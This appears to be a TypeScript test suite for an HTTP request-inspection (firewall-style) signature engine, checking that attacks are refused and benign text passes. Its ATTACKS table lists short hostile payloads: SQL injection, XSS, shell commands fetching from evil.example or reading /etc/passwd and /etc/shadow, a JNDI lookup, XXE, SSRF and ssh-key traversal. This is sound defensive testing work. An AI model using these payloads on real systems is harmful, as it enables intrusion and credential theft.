import assert from "node:assert/strict";
import type { MnoError } from "../../../runtime/exports/errors";
import { type InspectableRequest, type Level } from "../../../runtime/kernel/http-inspection/inspection";
import { createSignatures, type SignatureOptions } from "../../../runtime/kernel/http-inspection/signatures";

const HEADERS = {
  host: ["shop.example.com"],
  "user-agent": ["Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"],
};

function inspected(request: Partial<InspectableRequest>, body?: string | Buffer, options: SignatureOptions = {}) {
  const whole = {
    method: body === undefined ? "GET" : "POST",
    target: "/",
    ...request,
    headers: { ...HEADERS, ...request.headers },
  };
  return createSignatures(options).inspect(whole, body === undefined ? undefined : Buffer.from(body));
}

const query = (value: string, options?: SignatureOptions) =>
  inspected({ target: `/p?q=${encodeURIComponent(value)}` }, undefined, options);
const rulesOf = (value: string, level: Level = "standard") => query(value, { level }).findings.map(({ rule }) => rule);

/** One attack for each rule that is certain; what they say is of the class, not of any corpus. */
const ATTACKS: Readonly<Record<string, string>> = {
  "sql-tautology": "x' or 'b'='b",
  "sql-union": "7 union all select card, pin from accounts",
  "sql-select": "(select secret from vault)",
  "sql-statement": "7; drop table accounts",
  "sql-comment": "root'--",
  "sql-concatenation": "a'||(select secret from vault)||'",
  "sql-function": "extractvalue(1, 2)",
  "sql-delay": "7 and sleep(30)",
  "sql-catalogue": "information_schema.columns",
  "sql-executable-comment": "7 /*!50000 and*/ 1",
  "sql-cast": "version()::int",
  "sql-after-quote": "admin@example.com' or name",
  "sql-after-bracket": "4) as total from",
  "sql-open-call": "ascii (",
  "sql-whole-condition": "11!=12",
  "sql-joined-condition": "x and 1=",
  "sql-dangling-operator": "rlike ",
  "sql-joined-name": "and owner=me",
  "sql-whole-clause": "from orders where",
  "sql-json-operator": "data->>'owner'",
  "sql-schema-word": "nvarchar",
  "xss-form-element": "<form action=//evil.example>",
  "xss-split-element": "<scr\u0001ipt>",
  "xss-break-out": '"><b>',
  "xss-open-element": "<img src=x ",
  "shell-terse-expression": "$(w; ls)",
  "shell-hidden-word": "w''get x",
  "mail-command-word": "x\r\nQUIT",
  "xss-handler": "<img src=x onerror=go()>",
  "xss-element": "<script src=//evil.example></script>",
  "xss-attribute": '" autofocus onfocus="go()',
  "xss-address": "jav\tascript:go()",
  "xss-script-cookie": "document . cookie",
  "xss-script-call": "x;alert(document.domain)",
  "shell-injection": "a.txt; wget http://evil.example/x",
  "shell-command": "cat /etc/passwd",
  "shell-system-file": "/etc/shadow",
  "shell-shock": "() { :; }; echo",
  "shell-brace-expansion": "{cat,/etc/group}",
  "shell-server-side-include": '<!--#exec cmd="id"-->',
  "windows-command": "a & certutil -urlcache -f http://evil.example/x",
  "windows-cmdlet": "Invoke-Expression $x",
  "windows-interpreter": "cmd.exe /c dir",
  "mail-command": "x\r\nRCPT TO:<a@example.com>",
  "path-traversal": "....//../../secret",
  "path-known-secret": "../.ssh/id_rsa",
  "ssrf-inner-address": "http://0x7f.1/admin",
  "ssrf-inner-host": "localhost:6379/",
  "ssrf-scheme": "gopher://example.com:25/x",
  "rfi-question-mark": "http://evil.example/shell?",
  "php-open-tag": "<?php echo 1;",
  "php-function": "shell_exec('id')",
  "php-variable": "$_SESSION['a']",
  "php-object": 'O:8:"stdClass":0:{}',
  "php-stream": "php://filter/read=x",
  "java-lookup": "${${lower:j}ndi:ldap://evil.example/a}",
  "java-class": "java.lang.Runtime",
  "java-expression": "%{(#a=@java.lang.Runtime@getRuntime())}",
  "java-serialised": "rO0ABXNyABFqYXZhLnV0aWwu",
  "java-gadget-encoded": Buffer.from("xxgetRuntime().exec").toString("base64"),
  "node-code": "require('child_process').exec('id')",
  "node-prototype": "__proto__.admin",
  "python-code": "''.__class__.__mro__",
  "ruby-code": "Kernel.system('id')",
  "template-expression": "{{7*7}}",
  "ldap-filter": "*)(uid=*))(|(uid=*",
  "xxe-entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  "request-smuggling": "x\r\nGET /admin HTTP/1.1",
  "response-header-injection": "x\r\nSet-Cookie: a=b",
};

describe("attack rules", () => {
  for (const [rule, value] of Object.entries(ATTACKS)) {
    it(`${rule} speaks and refuses`, () => {
      const { refused, findings } = query(value);
      assert.ok(refused);
      assert.ok(
        findings.map((finding) => finding.rule).includes(rule),
        findings.map((finding) => finding.rule).join(" "),
      );
    });
  }

  const HONEST = [
    "O'Brien & Sons; it's 5 o'clock",
    "Please select one from the list -- then update the order by Friday (or 1 day later)",
    "drop table leaf dining table",
    "price < 100 and rating > 4",
    "rock 'n' roll or 'jazz'",
    "https://example.org/a/b?c=d&e=f#g",
    "Confirm (or deny) by e-mail; less is more: top 10",
    "bob's or alice's",
    '{"a":[1,2,{"b":null}]}',
    "Grüße aus Köln; 3,50 € – 100 %",
    "*/5 * * * *",
    "C:\\Users\\ann\\Documents",
    "5' 10\" in cm",
    "12' x 8'",
    "the parents' or the children's",
    "'90s hits and goin' home",
    '"exact phrase" -author:me',
    'is:open label:"or" -stale',
    "'s-Hertogenbosch",
    "un po' di più",
    "1) first 2) second :-) and more",
    "src/**/*.{ts,js}",
    "price>10,colour!=red",
    "rename (final) #2.pdf",
    "8+6=14",
    "y = 3x + 2",
    '<p>See <a href="https://example.org/a">this</a></p>',
  ];
  for (const value of HONEST) {
    it(`passes: ${value}`, () => assert.deepEqual(rulesOf(value), []));
  }

  it("sees through layers of encoding", () => {
    const wrappings: ((text: string) => string)[] = [
      (text) => encodeURIComponent(encodeURIComponent(text)),
      (text) => Array.from(text, (char) => `&#${char.codePointAt(0)};`).join(""),
      (text) => Array.from(text, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
      (text) => Array.from(text, (char) => `%u00${char.charCodeAt(0).toString(16).padStart(2, "0")}`).join(""),
      (text) =>
        Array.from(text, (char) => (char === " " ? " " : String.fromCharCode(char.charCodeAt(0) + 0xfee0))).join(""),
      (text) => Buffer.from(text).toString("base64"),
      (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
    ];
    for (const wrapped of wrappings.map((wrap) => wrap("<script>go()</script>")))
      assert.ok(query(wrapped).refused, wrapped);
    assert.ok(inspected({ target: "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/secret" }).refused);
    assert.ok(inspected({ target: "/a/..%252f..%252fsecret" }).refused);
  });

  it("looks into every kind of body, and says where", () => {
    const attack = "x' or 'b'='b";
    const where = (type: string, body: string) => {
      const found = inspected({ headers: { "content-type": [type] } }, body).findings.find(
        ({ rule }) => rule === "sql-tautology",
      );
      return found?.where;
    };
    assert.equal(where("application/x-www-form-urlencoded", `a=1&b=${encodeURIComponent(attack)}`), "body.b");
    assert.equal(where("application/json", JSON.stringify({ a: [{ b: attack }] })), "body.$.a[0].b");
    assert.equal(where("application/vnd.x+json", `{"a":"${attack}","a":"ok"}`), "body.$.a");
    assert.equal(where("application/json", `{"a":"${attack}`), "body.$.a");
    assert.equal(where("text/xml", `<r><v a="1">${attack}</v></r>`), "body./r/v");
    assert.equal(where("text/xml", `<r><v a="${attack}"/></r>`), "body./r/v@a");
    assert.equal(where("text/xml", `<r><![CDATA[${attack}]]></r>`), "body./r");
    assert.equal(
      where(
        "multipart/form-data; boundary=b",
        `--b\r\nContent-Disposition: form-data; name="n"\r\n\r\n${attack}\r\n--b--`,
      ),
      "body.n",
    );
    assert.equal(where("text/plain", attack), "body");
    assert.equal(
      inspected({ headers: { cookie: [`a=${encodeURIComponent(attack)}`] } }).findings[0]?.where,
      "cookie.a",
    );
  });

  it("refuses what it cannot look into", () => {
    const rules = (request: Partial<InspectableRequest>, body: string | Buffer) =>
      inspected(request, body).findings.map(({ rule }) => rule);
    assert.ok(
      rules({ headers: { "content-type": ["application/json"], "content-encoding": ["gzip"] } }, "xx").includes(
        "protocol-body-encoding",
      ),
    );
    assert.ok(
      rules({ headers: { "content-type": ["application/json"] } }, `"${"a".repeat(300_000)}"`).includes(
        "protocol-budget",
      ),
    );
    assert.ok(
      rules({ headers: { "content-type": ["application/json"] } }, "[".repeat(1_000)).includes("protocol-budget"),
    );
  });

  it("judges files by name and beginning", () => {
    const upload = (file: string, content: string) =>
      inspected(
        { headers: { "content-type": ["multipart/form-data; boundary=b"] } },
        `--b\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\n\r\n${content}\r\n--b--`,
      );
    assert.equal(upload("holiday 1.jpg", "\u00ff\u00d8 ordinary").refused, false);
    assert.deepEqual(
      upload("a.php.jpg", "x").findings.map(({ rule }) => rule),
      ["upload-script-name"],
    );
    assert.deepEqual(
      upload("a.jpg", "<?php x").findings.map(({ rule }) => rule),
      ["upload-script-content"],
    );
  });

  it("knows methods, scanners, ranges and lengths", () => {
    const rules = (request: Partial<InspectableRequest>) => inspected(request).findings.map(({ rule }) => rule);
    assert.deepEqual(rules({ method: "TRACK" }), ["protocol-method"]);
    assert.deepEqual(rules({ headers: { "user-agent": ["sqlmap/1.7"] } }), ["protocol-scanner"]);
    assert.deepEqual(rules({ headers: { range: ["bytes=9-1"] } }), ["protocol-range"]);
    assert.deepEqual(rules({ headers: { "content-length": ["+5"] } }), ["protocol-length"]);
    assert.deepEqual(rules({ target: "/a?jsessionid=1" }), ["session-fixation"]);
    assert.deepEqual(rules({ target: "/a?jsessionid=1", headers: { referer: ["https://shop.example.com/b"] } }), []);
  });

  it("adds rules with each level", () => {
    const value = "id order by name limit 5";
    assert.deepEqual(rulesOf(value), []);
    assert.ok(rulesOf(value, "high").includes("sql-clause"));
    const strict = "https://example.org/a";
    assert.deepEqual(rulesOf(strict, "high"), []);
    assert.ok(rulesOf(strict, "strict").includes("rfi-address"));
  });

  it("leaves out what is excluded, by rule or family, path and place", () => {
    const attack = "7 union select a from b";
    const excluded = (exclusion: object) =>
      query(attack, { exclusions: [{ rule: "sql", reason: "a console for administrators", ...exclusion }] }).refused;
    assert.equal(excluded({}), false);
    assert.equal(excluded({ path: "/p", where: "query.q" }), false);
    assert.equal(excluded({ path: "/p*", where: "query.*" }), false);
    assert.equal(excluded({ path: "/other" }), true);
    assert.equal(excluded({ where: "query.r" }), true);
    assert.equal(excluded({ rule: "xss" }), true);
    assert.equal(excluded({ rule: "*" }), false);
  });

  it("refuses from the threshold on", () => {
    assert.equal(query(ATTACKS["php-object"]!, { threshold: 6 }).refused, false);
    assert.equal(query(`${ATTACKS["sql-tautology"]!} ${ATTACKS["sql-union"]!}`, { threshold: 6 }).refused, true);
  });

  it("refuses options that mean nothing", () => {
    const invalid = (options: object) =>
      assert.throws(
        () => createSignatures(options),
        (error: MnoError) => error.code === "MNO_INSPECTION_OPTIONS_INVALID",
      );
    invalid({ level: "paranoid" });
    invalid({ threshold: 0 });
    invalid({ exclusions: [{ rule: "sqlx", reason: "x" }] });
    invalid({ exclusions: [{ rule: "sql", reason: " " }] });
  });
});
